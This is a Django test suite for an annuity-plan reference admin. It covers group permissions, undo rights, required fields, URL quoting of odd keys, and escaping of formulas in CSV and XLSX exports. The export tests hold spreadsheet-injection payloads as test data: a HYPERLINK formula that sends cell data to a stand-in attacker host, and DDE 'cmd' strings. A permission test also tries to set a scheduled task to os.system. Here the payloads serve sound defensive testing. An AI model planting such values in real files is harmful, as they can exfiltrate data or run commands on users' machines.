"""Issue 10, sections D and E: who may do what in the admin, undo, hand-added rows, odd keys in URLs and formula
injection through exports — as real users in the real groups, through the Django test client, on real files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from datetime import timedelta

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.admin import helpers
from django.contrib.admin.utils import quote
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_q.models import Failure, Schedule, Success, Task

from pipeline.models import DerivedReference, FactBatch
from reference.history import Action, change_context, row_history, stewardship_context
from reference.models import AnnuityPlan, KeyAlias, PortfolioPlan, Source
from reference.permissions import STEWARD_GROUP, VIEWER_GROUP

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("config_copy")]

PLAN_CHANGELIST = reverse("admin:reference_annuityplan_changelist")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


# --- users and helpers ------------------------------------------------------------------------------------------------


def make_user(django_user_model, username: str, group: str | None = None, *, superuser: bool = False):
    if superuser:
        return django_user_model.objects.create_superuser(username, password="pw")
    user = django_user_model.objects.create_user(username=username, password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name=group))
    return django_user_model.objects.get(pk=user.pk)  # fresh permission cache


def client_of(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def steward_user(django_user_model):
    return make_user(django_user_model, "steward", STEWARD_GROUP)


@pytest.fixture
def viewer_user(django_user_model):
    return make_user(django_user_model, "viewer", VIEWER_GROUP)


@pytest.fixture
def root_user(django_user_model):
    return make_user(django_user_model, "root", superuser=True)


@pytest.fixture
def steward(steward_user):
    return client_of(steward_user)


@pytest.fixture
def viewer(viewer_user):
    return client_of(viewer_user)


@pytest.fixture
def root(root_user):
    return client_of(root_user)


def pending(code: str, **values) -> AnnuityPlan:
    return AnnuityPlan.objects.create(
        plan_code=code,
        source=Source.AUTO_DERIVED,
        needs_review=True,
        derived_from_domain="annuity_performance",
        derived_at=timezone.now() - timedelta(days=1),
        **values,
    )


def complete_row(code: str, **values) -> AnnuityPlan:
    return pending(
        code, **{"short_name": f"计划{code}", "plan_type": "单一计划", "customer_name": f"客户{code}", **values}
    )


def url(name: str, *args) -> str:
    return reverse(f"admin:reference_annuityplan_{name}", args=args)


def text(response) -> str:
    return response.content.decode()


def offered_actions(response) -> set[str]:
    """The action names a changelist page offers in its action menu."""
    assert response.status_code == 200, response.status_code
    form = response.context.get("action_form")
    return {name for name, _ in form.fields["action"].choices if name} if form else set()


def failed_task(name: str = "preload-night", func: str = "math.floor") -> Failure:
    now = timezone.now()
    return Failure.objects.create(
        id=uuid.uuid4().hex,
        name=name,
        func=func,
        args=(1.5,),
        kwargs={},
        started=now,
        stopped=now,
        success=False,
        result="boom",
    )


def succeeded_task(name: str = "facts-night") -> Success:
    now = timezone.now()
    return Success.objects.create(
        id=uuid.uuid4().hex,
        name=name,
        func="math.floor",
        args=(2.5,),
        kwargs={},
        started=now,
        stopped=now,
        success=True,
        result=2,
    )


def post_action(client: Client, changelist: str, action: str, selected: list, **extra):
    data = {"action": action, helpers.ACTION_CHECKBOX_NAME: [str(s) for s in selected], "index": 0, **extra}
    return client.post(changelist, data)


# --- 14. viewers change nothing anywhere ------------------------------------------------------------------------------


def test_viewer_group_holds_only_view_permissions():
    codenames = list(Group.objects.get(name=VIEWER_GROUP).permissions.values_list("codename", flat=True))
    assert codenames and all(c.startswith("view_") for c in codenames), codenames


@pytest.mark.parametrize("who", ["viewer", "steward"])
def test_no_action_that_changes_state_is_offered_without_the_permission(request, who):
    """Every changelist of the admin, as a viewer and a steward: only actions their permissions allow are offered."""
    client = request.getfixturevalue(who)
    failed_task()
    succeeded_task()
    Schedule.objects.create(name="preload", func="operations.tasks.run_preload_task", schedule_type=Schedule.DAILY)
    allowed = {
        "viewer": {"export_feedback"},
        "steward": {
            "export_feedback",
            "promote_selected",
            "complete_selected",
            "confirm_keep_selected",
            "correct_and_resubmit",  # 隔离行
            "correct_by_suggestion",
            "resubmit_selected",
            "map_selected",  # 未映射值
            "unmap_selected",
        },
    }
    seen = {}
    for model in admin.site._registry:
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        response = client.get(changelist)
        if response.status_code == 403:
            continue
        seen[model._meta.label] = offered_actions(response)
    assert "django_q.Failure" in seen and "django_q.Success" in seen and "reference.AnnuityPlan" in seen
    offending = {label: actions - allowed[who] for label, actions in seen.items() if actions - allowed[who]}
    assert offending == {}


@pytest.mark.parametrize("who", ["viewer", "steward"])
def test_viewer_and_steward_cannot_resubmit_or_delete_q_tasks(request, who):
    client = request.getfixturevalue(who)
    failure, success = failed_task(), succeeded_task()
    schedule = Schedule.objects.create(name="preload", func="math.floor", args="1.5", schedule_type=Schedule.DAILY)
    tasks_before = set(Task.objects.values_list("id", flat=True))

    post_action(client, reverse("admin:django_q_failure_changelist"), "resubmit_task", [failure.pk])
    post_action(client, reverse("admin:django_q_success_changelist"), "resubmit_task", [success.pk])
    post_action(client, reverse("admin:django_q_failure_changelist"), "delete_selected", [failure.pk], post="yes")
    post_action(client, reverse("admin:django_q_schedule_changelist"), "delete_selected", [schedule.pk], post="yes")
    assert client.post(reverse("admin:django_q_failure_delete", args=[failure.pk]), {"post": "yes"}).status_code == 403
    change = reverse("admin:django_q_schedule_change", args=[schedule.pk])
    assert client.post(change, {"name": "renamed", "func": "os.system"}).status_code == 403

    assert set(Task.objects.values_list("id", flat=True)) == tasks_before  # nothing enqueued, nothing deleted
    assert Schedule.objects.get(pk=schedule.pk).func == "math.floor"
    page = text(client.get(reverse("admin:django_q_failure_changelist")))
    assert "preload-night" in page and "resubmit_task" not in page


def test_viewer_is_refused_every_changing_view_of_the_reference_admin(viewer, steward_user, tmp_path):
    complete_row("N1")
    AnnuityPlan.objects.create(plan_code="RIGHT", short_name="正确", plan_type="单一计划", customer_name="甲")
    with stewardship_context(user=steward_user, action=Action.EDIT) as context_id:
        AnnuityPlan.objects.filter(pk="N1").update(remark="管理员填写")
    state = list(AnnuityPlan.objects.order_by("pk").values_list())
    csv_file = tmp_path / "import.csv"
    csv_file.write_text("年金计划号,客户名称\nN1,观众改的\n", encoding="utf-8")

    with csv_file.open("rb") as fh:
        assert viewer.post(url("import"), {"format": "1", "resource": "0", "import_file": fh}).status_code == 403
    confirm = {"import_file_name": "x", "original_file_name": "x", "format": "1"}
    assert viewer.post(url("process_import"), confirm).status_code == 403
    assert viewer.post(url("promote", "N1")).status_code == 403
    assert viewer.post(url("merge", "N1"), {"right_key": "RIGHT", "_confirm": "1"}).status_code == 403
    assert viewer.post(url("undo", "N1", context_id)).status_code == 403
    assert viewer.post(url("change", "N1"), {"plan_code": "N1", "customer_name": "观众"}).status_code == 403
    added = {"plan_code": "V1", "short_name": "a", "plan_type": "b", "customer_name": "c"}
    assert viewer.post(url("add"), added).status_code == 403
    assert viewer.post(url("delete", "N1"), {"post": "yes"}).status_code == 403
    for action in ("promote_selected", "complete_selected", "delete_selected"):
        post_action(viewer, PLAN_CHANGELIST, action, ["N1"], _apply="1", mode="overwrite", remark="x", post="yes")

    assert list(AnnuityPlan.objects.order_by("pk").values_list()) == state
    assert "撤销" not in text(viewer.get(url("history", "N1")))


def test_superuser_resubmits_a_failure_and_the_failure_stays_recorded(root):
    failure = failed_task()

    response = post_action(root, reverse("admin:django_q_failure_changelist"), "resubmit_task", [failure.pk])

    assert response.status_code == 302
    assert Failure.objects.filter(pk=failure.pk).exists()  # the run history keeps showing the failure
    [rerun] = Success.objects.filter(func="math.floor")  # tests run the queue synchronously
    assert rerun.result == 1 and rerun.pk != failure.pk
    page = text(root.get(response.url))
    assert "1 个任务已重新提交" in page


# --- 15. undo needs the permissions of what it does -------------------------------------------------------------------


def test_steward_cannot_undo_a_superusers_add(steward, root_user):
    with stewardship_context(user=root_user, action=Action.ADD) as context_id:
        AnnuityPlan.objects.create(plan_code="P7777", short_name="权威计划", plan_type="单一计划", customer_name="甲")
    undo = url("undo", "P7777", context_id)

    assert steward.get(undo).status_code == 403
    assert steward.post(undo).status_code == 403
    assert AnnuityPlan.objects.filter(pk="P7777", source=Source.AUTHORITATIVE).exists()
    history = text(steward.get(url("history", "P7777")))
    assert "权威计划" in history and str(context_id) not in history  # no undo button for someone else's change


def test_steward_cannot_undo_a_context_through_an_unrelated_rows_url(steward, steward_user):
    complete_row("P1")
    complete_row("P2")
    with stewardship_context(user=steward_user, action=Action.PROMOTE) as context_id:
        AnnuityPlan.objects.filter(pk="P1").update(source=Source.AUTHORITATIVE, needs_review=False)

    assert steward.get(url("undo", "P2", context_id)).status_code == 404
    assert steward.post(url("undo", "P2", context_id)).status_code == 404
    assert AnnuityPlan.objects.get(pk="P1").source == Source.AUTHORITATIVE

    assert steward.get(url("undo", "P1", context_id)).status_code == 200
    assert steward.post(url("undo", "P1", context_id)).status_code == 302
    assert AnnuityPlan.objects.get(pk="P1").source == Source.AUTO_DERIVED  # its own change, through its own row


def test_preload_contexts_are_undone_only_by_superusers(steward, root):
    complete_row("P1")
    with change_context(action=Action.PRELOAD, run_id=7) as context_id:
        AnnuityPlan.objects.filter(pk="P1").update(
            source=Source.AUTHORITATIVE, needs_review=False, full_name="来自源系统"
        )
    undo = url("undo", "P1", context_id)

    assert steward.get(undo).status_code == 403 and steward.post(undo).status_code == 403
    assert AnnuityPlan.objects.get(pk="P1").source == Source.AUTHORITATIVE

    assert root.post(undo).status_code == 302
    assert AnnuityPlan.objects.get(pk="P1").source == Source.AUTO_DERIVED


def test_steward_cannot_undo_another_stewards_change(steward, django_user_model):
    other = make_user(django_user_model, "steward2", STEWARD_GROUP)
    complete_row("P1")
    with stewardship_context(user=other, action=Action.EDIT) as context_id:
        AnnuityPlan.objects.filter(pk="P1").update(remark="另一位管理员填写")

    assert steward.post(url("undo", "P1", context_id)).status_code == 403
    assert AnnuityPlan.objects.get(pk="P1").remark == "另一位管理员填写"


def test_undoing_an_insert_needs_the_delete_permission(steward, steward_user):
    with stewardship_context(user=steward_user, action=Action.ADD) as context_id:
        AnnuityPlan.objects.create(plan_code="P8888", short_name="新计划", plan_type="单一计划", customer_name="乙")

    page = steward.get(url("undo", "P8888", context_id))
    assert page.status_code == 403
    assert steward.post(url("undo", "P8888", context_id)).status_code == 403
    assert AnnuityPlan.objects.filter(pk="P8888").exists()


def test_undo_service_refuses_other_users_and_missing_permissions(steward_user, root_user):
    from django.core.exceptions import PermissionDenied

    from stewardship.undo import undo

    complete_row("P1")
    with stewardship_context(user=root_user, action=Action.EDIT) as edit:
        AnnuityPlan.objects.filter(pk="P1").update(remark="超级用户")
    with pytest.raises(PermissionDenied, match="root"):
        undo(context_id=edit, user=steward_user)
    with stewardship_context(user=steward_user, action=Action.ADD) as add:
        AnnuityPlan.objects.create(plan_code="P8888", short_name="新计划")
    with pytest.raises(PermissionDenied, match="年金计划"):
        undo(context_id=add, user=steward_user)
    assert AnnuityPlan.objects.get(pk="P1").remark == "超级用户" and AnnuityPlan.objects.filter(pk="P8888").exists()

    undo(context_id=add, user=root_user)
    assert not AnnuityPlan.objects.filter(pk="P8888").exists()


# --- 16. a row added by hand satisfies the promote rule ---------------------------------------------------------------


def test_admin_add_refuses_a_row_missing_required_fields(steward):
    response = steward.post(url("add"), {"plan_code": "P5555", "short_name": "只有简称", "is_umbrella": "unknown"})

    assert response.status_code == 200
    assert not AnnuityPlan.objects.filter(pk="P5555").exists()
    errors = text(response)
    assert "权威记录必须填写" in errors and "计划类型" in errors and "客户名称" in errors
    form = response.context["adminform"].form
    assert set(form.errors) >= {"plan_type", "customer_name"} and "short_name" not in form.errors

    portfolio = steward.post(reverse("admin:reference_portfolioplan_add"), {"portfolio_code": "Q1", "name": "组合"})
    assert portfolio.status_code == 200 and not PortfolioPlan.objects.filter(pk="Q1").exists()
    assert "年金计划号" in text(portfolio) and "组合类型" in text(portfolio)


def test_admin_add_with_required_fields_is_the_stewards_recorded_add(steward):
    data = {"plan_code": "P5555", "short_name": "新计划", "plan_type": "单一计划", "customer_name": "丙公司"}

    response = steward.post(url("add"), {**data, "is_umbrella": "unknown"})

    assert response.status_code == 302, response.context["adminform"].form.errors
    row = AnnuityPlan.objects.get(pk="P5555")
    assert (row.source, row.needs_review, row.customer_name) == (Source.AUTHORITATIVE, False, "丙公司")
    [event] = row_history(table="年金计划", key="P5555")
    assert (event.username, event.action, event.label) == ("steward", "add", "insert")


def test_admin_edit_cannot_empty_a_required_field_of_an_authoritative_row(steward):
    AnnuityPlan.objects.create(plan_code="P1", short_name="权威", plan_type="单一计划", customer_name="甲")
    form = steward.get(url("change", "P1")).context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data.update(customer_name="", is_umbrella="unknown")

    response = steward.post(url("change", "P1"), data)

    assert response.status_code == 200 and "客户名称" in text(response)
    assert AnnuityPlan.objects.get(pk="P1").customer_name == "甲"


# --- 17. keys the admin must quote ------------------------------------------------------------------------------------

ODD_KEYS = ["A_1", "P;2", "X/3", "$4", "5%", "S 6", 'Q"7', "计划8", "H#9", "Z?10"]


@pytest.mark.parametrize("key", ODD_KEYS)
def test_odd_keys_keep_their_buttons_panels_and_urls(steward, key):
    AnnuityPlan.objects.create(plan_code="RIGHT", short_name="正确计划", plan_type="单一计划", customer_name="甲")
    complete_row(key, short_name=f"本行{key}")
    decoy = quote(key)  # a row whose key is the admin-quoted spelling of the odd one
    if decoy != key:
        complete_row(decoy, short_name="诱饵")
    batch = FactBatch.objects.create(domain="annuity_performance", file_name="f.csv", file_path="/tmp/f.csv")
    DerivedReference.objects.create(
        table="年金计划", key=key, batch=batch, file_name=f"来源-{key}.csv", row_numbers=[7]
    )

    change = steward.get(url("change", quote(key)))
    page = text(change)
    assert change.status_code == 200 and f"本行{key}" in page.replace("&quot;", '"').replace("&#x27;", "'")
    promote, merge = url("promote", quote(key)), url("merge", quote(key))
    assert 'id="refgov-promote"' in page and promote in page and merge in page
    assert "refgov-provenance" in page and "来源-" in page

    assert steward.get(merge).status_code == 200 and steward.get(url("history", quote(key))).status_code == 200
    assert steward.post(promote).status_code == 302
    assert AnnuityPlan.objects.get(pk=key).source == Source.AUTHORITATIVE
    if decoy != key:
        assert AnnuityPlan.objects.get(pk=decoy).source == Source.AUTO_DERIVED

    history = text(steward.get(url("history", quote(key))))
    [undo] = re.findall(r'href="([^"]*/history/undo/[^"]*)"', history)
    assert steward.get(undo).status_code == 200
    back = steward.post(undo)
    assert back.status_code == 302 and back.url == url("history", quote(key))
    assert steward.get(back.url).status_code == 200
    assert AnnuityPlan.objects.get(pk=key).source == Source.AUTO_DERIVED

    done = steward.post(merge, {"right_key": "RIGHT", "_confirm": "1"})
    assert done.status_code == 302 and done.url == url("change", "RIGHT")
    assert not AnnuityPlan.objects.filter(pk=key).exists() and KeyAlias.objects.filter(alias=key).exists()
    if decoy != key:
        assert AnnuityPlan.objects.filter(pk=decoy).exists()


# --- 18. exports never carry a live formula ---------------------------------------------------------------------------

DANGEROUS = {
    "short_name": FORMULA,
    "full_name": "+1+cmd|' /C calc'!A0",
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "remark": "-2+3+cmd|' /C calc'!A0",
    "lead_branch": "\t=1+1",
    "qualification": "\r=1+1",
}


def formula_cells(book) -> list[str]:
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    return [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]


def assert_escaped(values: list, originals: list[str], *, xlsx: bool = False) -> None:
    """Each original text is there, escaped. In an xlsx file a carriage return reads back as \\n (openpyxl's XML) or
    as _x000D_ (XlsxWriter's escape, which openpyxl does not decode); both are the same text to Excel."""

    def same(value):
        return value.replace("_x000D_", "\n").replace("\r", "\n") if xlsx and isinstance(value, str) else value

    values = [same(v) for v in values]
    for original in originals:
        assert same("'" + original) in values, (original, values)


def all_values() -> dict[str, list]:
    return {p.pk: [getattr(p, f.attname) for f in AnnuityPlan._meta.concrete_fields] for p in AnnuityPlan.objects.all()}


def dangerous_row(code: str, **extra) -> AnnuityPlan:
    return pending(code, plan_type="单一计划", **DANGEROUS, **extra)


def test_admin_export_escapes_formulae_and_import_does_not_accumulate_quotes(steward, tmp_path):
    from pipeline.facts.service import process_fact_file
    from tests.facts_support import create_references, scale_row, write_csv

    create_references()
    process_fact_file(
        domain="annuity_performance",
        path=write_csv(tmp_path / "facts.csv", [scale_row(计划号="N1", 计划名称=FORMULA, 客户名称="=1+2")]),
    )
    AnnuityPlan.objects.filter(pk="N1").update(customer_name=None)  # exported as the suggestion from the facts
    dangerous_row("N2")
    before = all_values()
    export_url = reverse("admin:reference_annuityplan_export") + "?needs_review__exact=1"
    chosen = {name: "on" for name in re.findall(r'name="(annuityplanresource_[a-z_]+)"', text(steward.get(export_url)))}

    xlsx = steward.post(export_url, {"format": "0", "resource": "0", **chosen})
    (tmp_path / "export.xlsx").write_bytes(xlsx.content)
    book = openpyxl.load_workbook(tmp_path / "export.xlsx")
    assert formula_cells(book) == []
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert_escaped(values, [FORMULA, "=1+2", *[v for k, v in DANGEROUS.items() if k != "short_name"]], xlsx=True)
    assert all(c.data_type == "s" for row in book.active.iter_rows() for c in row if isinstance(c.value, str))

    exported_csv = steward.post(export_url, {"format": "1", "resource": "0", **chosen})
    cells = [cell for row in csv.reader(io.StringIO(exported_csv.content.decode("utf-8-sig"))) for cell in row]
    assert_escaped(cells, [FORMULA, "=1+2", *DANGEROUS.values()])
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    with (tmp_path / "export.xlsx").open("rb") as fh:
        preview = steward.post(url("import"), {"format": "0", "resource": "0", "import_file": fh})
    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', text(preview)))
    steward.post(url("process_import"), hidden)

    after = all_values()
    expected = [v.replace("\r", "\n") if isinstance(v, str) else v for v in before["N2"]]  # xlsx keeps no \r
    assert after["N2"] == expected  # no quote added on the way back
    n1 = AnnuityPlan.objects.get(pk="N1")
    assert (n1.short_name, n1.customer_name) == (FORMULA, "=1+2")  # the suggestion arrives without its escape


def test_feedback_export_escapes_formulae(steward):
    dangerous_row("N1")
    post_action(steward, PLAN_CHANGELIST + "?needs_review__exact=1", "promote_selected", ["N1"])
    assert AnnuityPlan.objects.get(pk="N1").source == Source.AUTHORITATIVE

    response = post_action(steward, PLAN_CHANGELIST, "export_feedback", ["N1"])

    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert formula_cells(book) == []
    values = [c.value for row in book["年金计划"].iter_rows() for c in row]
    assert_escaped(values, list(DANGEROUS.values()), xlsx=True)


def test_review_report_escapes_formulae_in_xlsx_and_csv(tmp_path):
    from pipeline.reports import write_review_report

    dangerous_row("N1")
    batch = FactBatch.objects.create(domain="annuity_performance", file_name="=2+5.csv", file_path="/tmp/=2+5.csv")
    DerivedReference.objects.create(table="年金计划", key="N1", batch=batch, file_name="=2+5.csv", row_numbers=[2])
    pending("-N2", short_name="@x")

    xlsx, _ = write_review_report(fmt="xlsx", output=tmp_path / "review.xlsx")
    book = openpyxl.load_workbook(xlsx)
    assert formula_cells(book) == []
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert_escaped(values, ["=2+5.csv", "-N2", "-N2 @x"], xlsx=True)

    path, _ = write_review_report(fmt="csv", output=tmp_path / "review.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert_escaped(cells, ["=2+5.csv", "-N2"])
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell]


def test_escape_helper_round_trips():
    from refgov.formulae import escape_formula, unescape_formula

    for value in [FORMULA, "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "'=1", "'", "''x", "plain", "", "'plain", "计划"]:
        escaped = escape_formula(value)
        assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r") or escaped == value == ""
        assert unescape_formula(escaped) == value
    assert escape_formula(FORMULA) == "'" + FORMULA and escape_formula("plain") == "plain"
    day = dt.date(2024, 1, 1)
    assert escape_formula(12) == 12 and escape_formula(None) is None and escape_formula(day) == day
